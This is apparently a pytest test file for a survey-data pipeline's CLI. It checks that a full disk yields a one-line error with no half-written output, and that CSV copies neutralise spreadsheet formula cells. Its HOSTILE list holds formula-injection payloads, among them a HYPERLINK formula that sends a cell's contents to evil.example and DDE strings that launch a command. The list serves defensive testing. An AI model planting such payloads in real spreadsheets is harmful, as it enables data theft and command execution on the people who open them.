"""Outputs: a full disk is one line naming the file (exit 2) and leaves the previous output whole;
CSV/XLSX copies for people never carry a live formula, Parquet keeps the exact values."""

from __future__ import annotations

import errno
import json
import shutil
import sys

import pandas as pd
import pytest

from analysis import cli
from analysis.pipeline import run_ingest, write_results
from analysis.safe_export import neutralise, neutralise_cells
from conftest import SURVEYS
from fixtures.exports import SAMPLE

HOSTILE = ["=HYPERLINK(\"http://evil.example/?\"&A1,\"点我\")", "+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0",
           "-2+3+cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"]


def run_cli(monkeypatch, capsys, *args):
    monkeypatch.setattr(sys, "argv", ["hallperf", *args])
    with pytest.raises(SystemExit) as exit_:
        cli.main()
    return exit_.value.code, capsys.readouterr().err


def branches_wave(folder):
    folder.mkdir()
    shutil.copy(SAMPLE / "branches.csv", folder / "branches.csv")
    (folder / "wave.yml").write_text("wave: w\nfiles:\n  - {path: branches.csv, instrument: branches}\n", encoding="utf-8")
    return folder


def no_space(*args, **kwargs):
    raise OSError(errno.ENOSPC, "No space left on device")


def test_disk_full_during_ingest_is_one_line_and_keeps_the_previous_output(tmp_path, monkeypatch, capsys):
    raw = branches_wave(tmp_path / "raw")
    out = tmp_path / "processed"
    args = ("ingest", "--wave", str(raw), "--out", str(out), "--secret", str(tmp_path / "k"), "--instruments", str(SURVEYS))
    code, _ = run_cli(monkeypatch, capsys, *args)
    assert code in (0, None)
    before = {p.name: p.read_bytes() for p in (out / "w").iterdir()}
    monkeypatch.setattr(pd.DataFrame, "to_parquet", no_space)
    code, err = run_cli(monkeypatch, capsys, *args)
    assert code == 2
    assert err == f"hallperf: error: cannot write {out / 'w' / 'branches.parquet'}: No space left on device\n"
    assert {p.name: p.read_bytes() for p in (out / "w").iterdir()} == before  # nothing half-written
    assert [p.name for p in out.iterdir()] == ["w"]  # no temporary folder left behind


def test_disk_full_while_writing_results_names_the_table(tmp_path, monkeypatch):
    from analysis.errors import OutputWriteError

    monkeypatch.setattr(pd.DataFrame, "to_csv", no_space)
    with pytest.raises(OutputWriteError, match=r"cannot write .*out/t.csv: No space left on device"):
        write_results(tmp_path / "out", {"t": pd.DataFrame({"a": [1]})}, {})
    assert list(tmp_path.iterdir()) == []


def test_other_os_errors_are_not_reworded(tmp_path):
    """Only errors about the output become 'cannot write': a bug elsewhere keeps its traceback."""
    from analysis.atomic import atomic_dir

    with pytest.raises(FileNotFoundError), atomic_dir(tmp_path / "out"):
        (tmp_path / "missing.csv").read_text()
    assert list(tmp_path.iterdir()) == []


@pytest.mark.parametrize("text", HOSTILE)
def test_formula_cells_are_neutralised(text):
    assert neutralise(text) == "'" + text


@pytest.mark.parametrize("value", ["-3", "+5", "-0.25", "1e-3", -0.25, 3, "天河店", "a=b", None])
def test_numbers_and_plain_text_are_left_alone(value):
    assert neutralise(value) == value


def test_neutralise_cells_keeps_numeric_columns(tmp_path):
    frame = pd.DataFrame({"group": HOSTILE[:2] + ["B1"], "estimate": [-0.25, 1.0, 2.0], "n": [5, 6, 7]})
    safe = neutralise_cells(frame)
    assert safe["group"].tolist() == ["'" + HOSTILE[0], "'" + HOSTILE[1], "B1"]
    assert safe["estimate"].tolist() == [-0.25, 1.0, 2.0] and safe["n"].dtype == frame["n"].dtype
    assert frame["group"].tolist()[0] == HOSTILE[0]  # the input is not changed


def test_results_csv_neutralised_parquet_exact(tmp_path):
    table = pd.DataFrame({"group": HOSTILE, "mean": [-1.5, 2, 3, 4, 5, 6]})
    write_results(tmp_path / "out", {"branch_profiles": table}, {"stage": "test"})
    csv = pd.read_csv(tmp_path / "out" / "branch_profiles.csv", dtype={"group": str}, keep_default_na=False)
    assert all(not cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in csv["group"])
    assert csv["mean"].tolist() == [-1.5, 2, 3, 4, 5, 6]
    pd.testing.assert_frame_equal(pd.read_parquet(tmp_path / "out" / "branch_profiles.parquet"), table)


def test_hostile_names_reach_quarantine_csv_neutralised(tmp_path):
    raw = tmp_path / "raw"
    raw.mkdir()
    rows = ["营业厅编号,营业厅名称,所属区局,在岗人数", '"=HYPERLINK(""http://x"",""a"")",甲,东区,5', "@SUM(1),乙,东区,x",
            "+cmd|' /C calc'!A0,丙,东区,-1"]
    (raw / "branches.csv").write_text("\n".join(rows) + "\n", encoding="utf-8")
    manifest = run_ingest(raw, processed_root=tmp_path / "out", instruments_dir=SURVEYS, secret_file=tmp_path / "k")
    processed = tmp_path / "out" / "raw"
    assert manifest["totals"] == {"rows_read": 3, "rows_accepted": 1, "rows_quarantined": 2}
    text = (processed / "quarantine.csv").read_text(encoding="utf-8-sig")
    cells = pd.read_csv(processed / "quarantine.csv", dtype=str, keep_default_na=False, encoding="utf-8-sig")
    assert all(not c.startswith(("=", "+", "@")) for c in cells.to_numpy().ravel()), text
    assert cells["value"].tolist() == ["x", "-1"]  # plain numbers stay numbers
    # The processed data keep the id exactly as delivered: only copies for people are neutralised.
    accepted = pd.read_parquet(processed / "branches.parquet")
    assert accepted["branch_id"].tolist() == ['=HYPERLINK("http://x","a")']
    assert json.loads((processed / "manifest.json").read_text(encoding="utf-8"))["totals"]["rows_read"] == 3
